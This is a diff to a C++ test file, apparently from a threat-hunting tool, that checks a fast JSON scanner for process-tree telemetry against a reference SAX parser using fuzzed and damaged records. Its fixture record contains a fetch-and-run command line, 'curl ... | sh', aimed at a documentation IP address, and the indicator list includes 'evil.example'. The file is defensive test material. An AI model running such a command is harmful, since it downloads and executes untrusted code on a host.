@@ -233,6 +233,7 @@ TEST_CASE("pre-filter: planted indicators of every kind are never missed; SIMD a
       {"/dst_endpoint/ip", "::ffff:203.0.113.77"},
       {"/dst_endpoint/ip", "2001:db8::"},  // ends with ':'
       {"/dst_endpoint/ip", "2001:DB8:0:1::5"},
+      {"/dst_endpoint/ip", "2001:0db8:0000:0000:0000:ff00:0042:8329"},  // long: its first ':' at byte 4
       {"/answers/0/rdata", "198.51.100.1"},
       {"/query/hostname", "evil.example"},
       {"/query/hostname", "a.b.EVIL.Example."},
@@ -302,4 +303,128 @@ TEST_CASE("time bounds: RFC 3339, dates, durations", "[hunt]") {
   CHECK_FALSE(parse_time_bound("yesterday", 0, &t));
   CHECK_FALSE(parse_rfc3339("2026-13-01", &t));
   CHECK_FALSE(parse_rfc3339("2026-11-23T12:00", &t));
+}
+
+// The process tree's fields (TreeFields): the scanner for the JSON vigil
+// writes must give exactly what nlohmann's SAX parser (the definition)
+// gives, and leave everything outside its subset to it.
+namespace {
+
+const std::string kFork =
+    R"({"activity_id":1,"class_uid":1007,"device":{"container":{"uid":"c0ffee"},"hostname":"ip-10-0-1-93"},)"
+    R"("metadata":{"uid":"b6561280038633ff:968","version":"1.5.0"},)"
+    R"("process":{"cmd_line":"sh -c curl -s http://198.51.100.9/k | sh","file":{"hashes":[{"algorithm_id":3,)"
+    R"("value":"ab"}],"path":"/usr/bin/dash"},"name":"dash","parent_process":{"file":{"path":"/usr/bin/python3.11"},)"
+    R"("pid":20},"pid":43,"user":{"uid":"1000"}},"time":1763463999000,"time_dt":"2026-11-18T11:06:39.805Z",)"
+    R"("unmapped":{"child_pid":43,"type":"fork"},"ratio":0.25,"ok":true,"none":null,"neg":-3})";
+
+// parse() and parse_sax() agree on `line`; returns whether parse() scanned it.
+bool agree(std::string_view line) {
+  TreeFields a, b;
+  bool ra = a.parse(line), rb = b.parse_sax(line);
+  INFO(line);
+  REQUIRE(ra == rb);
+  if (ra)
+    for (int s = 0; s < TreeFields::kSlots; ++s) {
+      INFO(TreeFields::kPaths[s]);
+      CHECK(a[TreeFields::Slot(s)] == b[TreeFields::Slot(s)]);
+    }
+  return a.scanned();
+}
+
+}  // namespace
+
+TEST_CASE("tree fields: vigil's records are scanned, with the values the SAX parser gives", "[hunt][treefields]") {
+  TreeFields f;
+  REQUIRE(f.parse(kFork));
+  CHECK(f.scanned());
+  using F = TreeFields;
+  CHECK(f.first(F::kType, F::kTypeOcsf) == "fork");
+  CHECK(f.num(F::kChild, F::kChildOcsf) == 43);
+  CHECK(f.num(F::kPid) == 43);
+  CHECK(f.num(F::kPpid, F::kPpidOcsf) == 20);
+  CHECK(f[F::kName] == "dash");
+  CHECK(f.first(F::kExe, F::kExeOcsf) == "/usr/bin/dash");  // not the parent's file.path, not the hash
+  CHECK(f[F::kCmd] == "sh -c curl -s http://198.51.100.9/k | sh");
+  CHECK(f[F::kMetaUid] == "b6561280038633ff:968");
+  CHECK(f[F::kHostOcsf] == "ip-10-0-1-93");
+  CHECK(f[F::kContainerOcsf] == "c0ffee");
+  CHECK(agree(kFork));
+
+  // the former layout, spaces between tokens, keys in any order
+  CHECK(agree(R"( { "type" : "exec", "process" : { "ppid" : 7, "exe" : "/bin/x", "pid" : 9 } , "id" : "s:1" } )"));
+  json j = json::parse(kFork);
+  std::mt19937 rnd(16);
+  for (int k = 0; k < 50; ++k) {  // reordered keys: the same values
+    std::vector<std::pair<std::string, json>> items;
+    for (const auto& [key, v] : j.items()) items.emplace_back(key, v);
+    std::shuffle(items.begin(), items.end(), rnd);
+    std::string line = "{";
+    for (const auto& [key, v] : items) line += json(key).dump() + ":" + v.dump() + ",";
+    line.back() = '}';
+    CHECK(agree(line));
+    TreeFields g;
+    REQUIRE(g.parse(line));
+    CHECK(g.num(F::kPpid, F::kPpidOcsf) == 20);
+  }
+  // missing fields are empty
+  REQUIRE(f.parse(R"({"unmapped":{"type":"exec"}})"));
+  CHECK(f.scanned());
+  CHECK(f[F::kCmd].empty());
+  CHECK(f.num(F::kPid) == 0);
+  // values of other types, objects and arrays where a slot's string is expected, repeated keys
+  CHECK(agree(R"({"process":{"pid":1.5,"name":true,"exe":null,"cmd_line":["a"],"file":{"path":{"x":"y"}}}})"));
+  CHECK(agree(R"({"process":{"pid":1,"name":"a"},"process":{"pid":2},"type":"fork","type":"exec"})"));
+  CHECK(agree(R"({"x":[{"process":{"pid":5}},[1,[2,{}]],"s",0,-0.5,1.25],"process":{"pid":0}})"));
+  CHECK(agree(R"({"process":{"pid":123456789012345678}})"));
+}
+
+TEST_CASE("tree fields: escapes, non-ASCII, odd numbers and keys go to the SAX parser", "[hunt][treefields]") {
+  using F = TreeFields;
+  TreeFields f;
+  // escaped quotes and backslashes, \u escapes
+  REQUIRE(f.parse(R"({"process":{"cmd_line":"sh -c \"echo \\\"hi\\\"\"","pid":3},"type":"exec"})"));
+  CHECK_FALSE(f.scanned());
+  CHECK(f[F::kCmd] == R"(sh -c "echo \"hi\"")");
+  CHECK(f.num(F::kPid) == 3);
+  REQUIRE(f.parse(R"({"process":{"name":"\u0041b\u00e9\ud83d\ude00"},"type":"exec"})"));
+  CHECK_FALSE(f.scanned());
+  CHECK(f[F::kName] == "Ab\xc3\xa9\xf0\x9f\x98\x80");
+  REQUIRE(f.parse("{\"process\":{\"name\":\"caf\xc3\xa9\"}}"));  // UTF-8 as is
+  CHECK_FALSE(f.scanned());
+  CHECK(f[F::kName] == "caf\xc3\xa9");
+  CHECK_FALSE(f.parse("{\"process\":{\"name\":\"caf\xe9\"}}"));  // not UTF-8
+  CHECK_FALSE(f.parse("{\"process\":{\"name\":\"a\tb\"}}"));     // a raw control character
+  // a key with a '.' or an empty key joins a path in the definition
+  CHECK_FALSE(agree(R"({"process.pid":5,"type":"exec"})"));
+  CHECK_FALSE(agree(R"({"":{"process":{"pid":5}},"type":"exec"})"));
+  CHECK(agree(R"({"other":{"process.pid":5,"":1},"type":"exec"})"));  // not on a path: scanned
+  // negative, exponent and huge numbers in a slot
+  CHECK_FALSE(agree(R"({"process":{"pid":-5}})"));
+  CHECK_FALSE(agree(R"({"process":{"pid":-0}})"));
+  CHECK_FALSE(agree(R"({"process":{"pid":5e2}})"));
+  CHECK_FALSE(agree(R"({"process":{"pid":123456789012345678901234}})"));
+  CHECK(agree(R"({"process":{"pid":-5.5}})"));
+  CHECK(agree(R"({"x":-7,"y":[-1,-0,0.5]})"));
+}
+
+TEST_CASE("tree fields: truncated and damaged lines agree with the SAX parser", "[hunt][treefields]") {
+  size_t scanned = 0;
+  for (size_t n = 0; n < kFork.size(); ++n) CHECK_FALSE(agree(std::string_view(kFork).substr(0, n)));
+  std::mt19937 rnd(7);
+  const std::string bytes = "{}[]:,\"\\ 0-.e1atrfnul\x01\xc3\xa9x";
+  for (int k = 0; k < 20000; ++k) {  // one to three bytes changed, inserted or removed
+    std::string line = kFork;
+    for (int e = 0, edits = 1 + int(rnd() % 3); e < edits; ++e) {
+      size_t at = rnd() % line.size();
+      char c = bytes[rnd() % bytes.size()];
+      switch (rnd() % 3) {
+        case 0: line[at] = c; break;
+        case 1: line.insert(line.begin() + long(at), c); break;
+        default: line.erase(at, 1);
+      }
+    }
+    scanned += agree(line);
+  }
+  CHECK(scanned > 1000);  // many damaged lines are still valid JSON inside the subset
 }
